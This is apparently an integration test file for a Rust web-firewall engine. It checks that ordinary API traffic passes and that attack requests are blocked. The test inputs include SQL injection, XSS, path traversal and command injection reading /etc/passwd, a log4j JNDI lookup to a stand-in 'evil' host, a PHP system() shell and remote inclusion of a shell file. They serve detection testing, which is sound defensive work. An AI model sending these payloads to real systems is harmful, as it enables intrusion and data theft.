//! The engine as the glue uses it: configuration in, verdicts out.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use threat_score::{Category, Config, Mode, Request, Verdict};

fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

#[test]
fn ordinary_api_traffic_passes() {
    let engine = Config::default().compile().unwrap();
    let headers = h(&[
        ("host", "api.example.com"),
        ("user-agent", "okhttp/4.12.0"),
        ("content-type", "application/json"),
    ]);
    let body = br#"{"name": "O'Reilly", "bio": "I'm into rock and roll; select the best", "tags": ["a", "b"]}"#;
    let req = Request::new("PATCH", "/api/v1/users/42?fields=name,bio")
        .with_headers(&headers)
        .with_body(body);
    let a = engine.inspect(&req);
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
    assert_eq!(a.score, 0);
}

#[test]
fn each_family_is_detected() {
    let engine = Config::default().compile().unwrap();
    let cases = [
        (
            "/?id=1%20UNION%20SELECT%20password%20FROM%20users",
            Category::Sqli,
        ),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", Category::Xss),
        ("/?file=../../../../etc/passwd", Category::Lfi),
        ("/?cmd=;cat%20/etc/passwd", Category::Rce),
        ("/?x=%24%7Bjndi:ldap://evil/a%7D", Category::Java),
        ("/?code=%3C?php%20system($_GET[c]);", Category::Php),
        ("/?inc=http://10.0.0.1/shell.txt?", Category::Rfi),
        ("/?__proto__[admin]=1", Category::Generic),
    ];
    // Block mode stops at the threshold, so the full list of categories comes from detect mode.
    let detect = Config::from_json(br#"{"mode": "detect"}"#)
        .unwrap()
        .compile()
        .unwrap();
    let headers = h(&[("host", "example.com")]);
    for (uri, cat) in cases {
        let req = Request::new("GET", uri).with_headers(&headers);
        let a = engine.inspect(&req);
        assert_eq!(a.verdict, Verdict::Block, "{uri}: {a:?}");
        let a = detect.inspect(&req);
        assert!(a.categories.contains(cat), "{uri}: {a:?}");
    }
}

#[test]
fn modes_and_paranoia() {
    let headers = h(&[("host", "example.com")]);
    let req = Request::new("GET", "/?id=1%20OR%201=1").with_headers(&headers);
    let tag = Config {
        mode: Mode::Tag,
        ..Config::default()
    }
    .compile()
    .unwrap();
    let a = tag.inspect(&req);
    assert_eq!(a.verdict, Verdict::Tag);
    assert_eq!(a.categories.to_header_value(), "sqli");
    let detect = Config {
        mode: Mode::Detect,
        ..Config::default()
    }
    .compile()
    .unwrap();
    let a = detect.inspect(&req);
    assert_eq!(a.verdict, Verdict::Allow);
    assert!(a.over_threshold);
    // A paranoia-2 signal (a log4j-style lookup without jndi) only counts at PL2.
    let req = Request::new("GET", "/?x=%24%7Benv:HOME%7D").with_headers(&headers);
    let pl1 = Config::default().compile().unwrap();
    assert_eq!(pl1.inspect(&req).verdict, Verdict::Allow);
    let pl2 = Config {
        paranoia_level: 2,
        ..Config::default()
    }
    .compile()
    .unwrap();
    assert_eq!(pl2.inspect(&req).verdict, Verdict::Block);
}

#[test]
fn exclusions_silence_known_false_positives() {
    let cfg = Config::from_json(
        br#"{"exclusions": [{"path_prefix": "/cms/", "args": ["html"], "categories": ["xss"]}]}"#,
    )
    .unwrap();
    let engine = cfg.compile().unwrap();
    let headers = h(&[("host", "example.com")]);
    let req =
        Request::new("POST", "/cms/save?html=%3Cscript%3Ex()%3C/script%3E").with_headers(&headers);
    assert_eq!(engine.inspect(&req).verdict, Verdict::Allow);
    // Other paths, other arguments, other categories still count.
    let req =
        Request::new("POST", "/api/save?html=%3Cscript%3Ex()%3C/script%3E").with_headers(&headers);
    assert_eq!(engine.inspect(&req).verdict, Verdict::Block);
    let req =
        Request::new("POST", "/cms/save?title=%3Cscript%3Ex()%3C/script%3E").with_headers(&headers);
    assert_eq!(engine.inspect(&req).verdict, Verdict::Block);
}

#[test]
fn limits_follow_their_policy() {
    let headers = h(&[("host", "example.com")]);
    let uri = format!(
        "/?{}",
        (0..300)
            .map(|i| format!("a{i}=1"))
            .collect::<Vec<_>>()
            .join("&")
    );
    let block = Config::default().compile().unwrap();
    let a = block.inspect(&Request::new("GET", &uri).with_headers(&headers));
    assert_eq!(a.verdict, Verdict::Block);
    let pass = Config::from_json(br#"{"limits": {"args": {"max": 255, "on_exceed": "pass"}}}"#)
        .unwrap()
        .compile()
        .unwrap();
    let a = pass.inspect(&Request::new("GET", &uri).with_headers(&headers));
    assert_eq!(a.verdict, Verdict::Allow);
    assert_eq!(a.limit_hits, vec![threat_score::LimitKind::ArgCount]);
}

#[test]
fn pseudo_headers_are_understood() {
    let engine = Config::default().compile().unwrap();
    let headers = h(&[
        (":method", "GET"),
        (":path", "/?q=1'%20or%20'1'='1"),
        (":authority", "example.com"),
    ]);
    let req = Request {
        headers: &headers,
        ..Request::default()
    };
    assert_eq!(engine.inspect(&req).verdict, Verdict::Block);
}

/// The media-type and charset allow-lists (CRS 920420, 920480) guard the parsers a body goes
/// through: a request that carries no body (no bytes, no `Transfer-Encoding`, no
/// `Content-Length` other than `0`) is not refused for its `Content-Type`, while one that
/// announces or sends a body still is, and the header's attack shapes count either way.
#[test]
fn content_type_allow_lists_apply_to_requests_with_a_body() {
    let engine = Config::from_json(br#"{"mode": "detect"}"#)
        .unwrap()
        .compile()
        .unwrap();
    let rules = |method: &str, headers: &[(&str, &str)], body: Option<&[u8]>| {
        let headers = h(headers);
        let mut req = Request::new(method, "/api/x").with_headers(&headers);
        req.body = body;
        let a = engine.inspect(&req);
        a.detections.iter().map(|d| d.rule).collect::<Vec<_>>()
    };
    let odd = [
        ("host", "example.com"),
        ("content-type", "text/vcard; charset=koi8-u"),
    ];
    let not_allowed = [
        "protocol.content-type-not-allowed",
        "protocol.charset-not-allowed",
    ];
    // Bodiless: a GET, an empty POST with `Content-Length: 0`.
    let cl0 = [odd[0], odd[1], ("content-length", "0")];
    for (method, headers, body) in [("GET", &odd[..], None), ("POST", &cl0[..], Some(&b""[..]))] {
        let fired = rules(method, headers, body);
        for rule in not_allowed {
            assert!(!fired.contains(&rule), "{method} {headers:?}: {fired:?}");
        }
    }
    // With a body: sent, announced by `Content-Length` (body not buffered), or chunked.
    let cl = [odd[0], odd[1], ("content-length", "5")];
    let te = [odd[0], odd[1], ("transfer-encoding", "chunked")];
    for (headers, body) in [
        (&cl[..], Some(&b"BEGIN"[..])),
        (&cl[..], None),
        (&te[..], None),
    ] {
        let fired = rules("POST", headers, body);
        for rule in not_allowed {
            assert!(fired.contains(&rule), "{headers:?} {body:?}: {fired:?}");
        }
    }
    // The confusion shape (a parser's media type in a parameter) counts without a body too.
    let confused = [
        ("host", "example.com"),
        ("content-type", "text/plain; boundary=\"application/json\""),
    ];
    let fired = rules("GET", &confused, None);
    assert!(
        fired.contains(&"protocol.content-type-confusion"),
        "{fired:?}"
    );
}

/// Content-Type confusion at paranoia 1 is a parameter naming a body syntax that parsers
/// dispatch on (JSON, XML, a form, multipart), in any spelling of a media type; any other
/// `/` in a parameter (SOAP 1.2's `action` URL, a JSON-LD `profile`, `charset=/gar/bage`)
/// counts from paranoia 2 only.
#[test]
fn content_type_confusion_names_a_parser_at_paranoia_1() {
    let fires = |paranoia: u8, ct: &str| {
        let engine = Config::from_json(
            format!(r#"{{"mode": "detect", "paranoia_level": {paranoia}}}"#).as_bytes(),
        )
        .unwrap()
        .compile()
        .unwrap();
        let headers = h(&[("host", "example.com"), ("content-type", ct)]);
        let req = Request::new("GET", "/api/x").with_headers(&headers);
        let a = engine.inspect(&req);
        a.detections
            .iter()
            .any(|d| d.rule == "protocol.content-type-confusion")
    };
    for ct in [
        "application/x-www-form-urlencoded;boundary=\"application/json\"",
        "application/x-www-form-urlencoded; boundary=\"application/vnd.acme.order-v2+json\"",
        "text/plain; a=text/xml",
        "application/json; x=\"multipart/form-data\"",
        "text/plain; a=application/soap+xml",
        "application/json; b=\"application/x-www-form-urlencoded\"",
        "text/plain; A=Application/JSON",
    ] {
        assert!(fires(1, ct), "{ct}");
    }
    for ct in [
        "application/soap+xml; charset=utf-8; action=\"http://tempuri.org/IService/GetData\"",
        "application/ld+json; profile=\"http://www.w3.org/ns/json-ld#expanded\"",
        "text/plain; charset=/gar/bage",
        "application/x-www-form-urlencoded;boundary=\"image/jpeg\"",
        "text/plain; a=json/",
        "text/plain; a=/json",
        "text/plain; a=x/xjson",
    ] {
        assert!(!fires(1, ct), "{ct}");
        assert!(fires(2, ct), "{ct}");
    }
}
